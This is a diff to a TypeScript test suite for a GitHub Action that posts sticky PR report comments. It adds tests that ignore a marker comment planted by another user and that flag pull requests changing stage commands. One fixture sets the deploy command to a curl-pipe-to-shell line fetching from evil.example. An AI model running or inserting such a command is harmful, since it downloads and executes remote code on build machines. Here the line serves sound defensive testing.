@@ -14,7 +14,13 @@ interface Comment {
   id: number;
   body: string;
   html_url: string;
+  user?: { login: string; type: string };
 }
+
+/** whom a token writes as: the workflow's GITHUB_TOKEN writes as github-actions[bot] */
+const IDENTITIES: Record<string, { login: string; type: string }> = {
+  'token ghs_standin_token': { login: 'github-actions[bot]', type: 'Bot' },
+};
 
 interface Request {
   method: string;
@@ -74,7 +80,12 @@ class GitHubStandIn {
       return send(403, { message: 'Resource not accessible by integration', status: '403' });
     }
     if (list && req.method === 'POST') {
-      const comment = { id: this.nextId++, body: (JSON.parse(raw) as { body: string }).body, html_url: '' };
+      const comment: Comment = {
+        id: this.nextId++,
+        body: (JSON.parse(raw) as { body: string }).body,
+        html_url: '',
+        user: IDENTITIES[req.headers.authorization ?? ''] ?? { login: 'unknown', type: 'User' },
+      };
       comment.html_url = `https://github.com/${REPO}/pull/${list[1]}#issuecomment-${comment.id}`;
       this.comments.set(Number(list[1]), [...(this.comments.get(Number(list[1])) ?? []), comment]);
       return send(201, comment);
@@ -151,6 +162,28 @@ function eventFile(dir: string, number: number, headRepo: string, baseSha: strin
   return file;
 }
 
+/** A pull request whose only change is the root stageCommands: deploy becomes a shell with curl. */
+function commandOnlyWorkspace(): { dir: string; baseSha: string } {
+  const dir = mkdtempSync(join(tmpdir(), 'mcc-pr-cmd-'));
+  mkdirSync(join(dir, 'catalog'));
+  const file = join(dir, 'catalog/e2e-catalog.json');
+  const configs = [entry('rt-a', 'Qwen/Qwen3-4B')];
+  writeFileSync(file, catalogText(configs));
+  git(dir, 'init', '-q');
+  git(dir, 'add', '.');
+  git(dir, '-c', 'user.name=test', '-c', 'user.email=test@example.com', 'commit', '-q', '-m', 'base');
+  const baseSha = git(dir, 'rev-parse', 'HEAD');
+  writeFileSync(
+    file,
+    JSON.stringify(
+      { stageCommands: { deploy: ['/bin/sh', '-c', 'curl -s https://evil.example/x | sh'] }, configs },
+      null,
+      2,
+    ),
+  );
+  return { dir, baseSha };
+}
+
 describe('the sticky PR comment of the report action (GitHub REST stand-in)', () => {
   const github = new GitHubStandIn();
   let workspace: { dir: string; baseSha: string };
@@ -162,13 +195,13 @@ describe('the sticky PR comment of the report action (GitHub REST stand-in)', ()
 
   afterAll(() => github.stop());
 
-  const report = (number: number, headRepo = REPO) =>
+  const report = (number: number, headRepo = REPO, at = workspace) =>
     runAction('dist/report/index.js', {
-      cwd: workspace.dir,
+      cwd: at.dir,
       inputs: { comment: 'true', 'github-token': 'ghs_standin_token', 'results-dir': 'no-results-here' },
       env: {
         GITHUB_EVENT_NAME: 'pull_request',
-        GITHUB_EVENT_PATH: eventFile(workspace.dir, number, headRepo, workspace.baseSha),
+        GITHUB_EVENT_PATH: eventFile(at.dir, number, headRepo, at.baseSha),
         GITHUB_REPOSITORY: REPO,
         GITHUB_API_URL: github.url,
         GITHUB_SERVER_URL: 'https://github.com',
@@ -241,6 +274,31 @@ describe('the sticky PR comment of the report action (GitHub REST stand-in)', ()
     expect(run.stdout).toContain('PR comment updated');
   });
 
+  it('leaves a marker comment by another user untouched and writes its own', async () => {
+    github.requests.length = 0;
+    const planted = {
+      id: 1,
+      body: `${MARKER}\nlooks like the report`,
+      html_url: '',
+      user: { login: 'mallory', type: 'User' },
+    };
+    github.comments.set(11, [planted]);
+    const run = await report(11);
+    expect(run.code).toBe(0);
+    expect(github.writes().map((r) => `${r.method} ${r.path}`)).toEqual([
+      'POST /repos/mcc/e2e-action/issues/11/comments',
+    ]);
+    const comments = github.comments.get(11) ?? [];
+    expect(comments[0]).toEqual({
+      id: 1,
+      body: `${MARKER}\nlooks like the report`,
+      html_url: '',
+      user: { login: 'mallory', type: 'User' },
+    });
+    expect(comments).toHaveLength(2);
+    expect(comments[1]?.user?.login).toBe('github-actions[bot]');
+  });
+
   it('writes nothing with a read-only token, and says so in the summary', async () => {
     github.requests.length = 0;
     github.readOnly = true;
@@ -256,6 +314,23 @@ describe('the sticky PR comment of the report action (GitHub REST stand-in)', ()
       expect(run.summary).toContain('**Summary: 3 total |');
     } finally {
       github.readOnly = false;
+    }
+  });
+
+  it('a PR changing only a stage command gets the warning in summary and comment, and the dry run shows the new argv', async () => {
+    const run = await report(12, REPO, commandOnlyWorkspace());
+    expect(run.code).toBe(0);
+    const comment = (github.comments.get(12) ?? [])[0]?.body ?? '';
+    for (const text of [run.summary, comment]) {
+      expect(text).toContain('⚠️ **this PR changes what runs**: 1 command or environment change');
+      expect(text).toContain(
+        '> | stageCommands.deploy | (none) | /bin/sh -c &quot;curl -s https://evil.example/x \\| sh&quot; |',
+      );
+      expect(text).not.toContain('No catalog entry is added, removed or changed by this pull request.\n');
+      expect(text).toContain('Dry-run plan of rt-a, with this pull request&#39;s stage commands');
+      expect(text).toContain(
+        '| deploy | 1800s | project | /bin/sh -c &quot;curl -s https://evil.example/x \\| sh&quot; |',
+      );
     }
   });
 
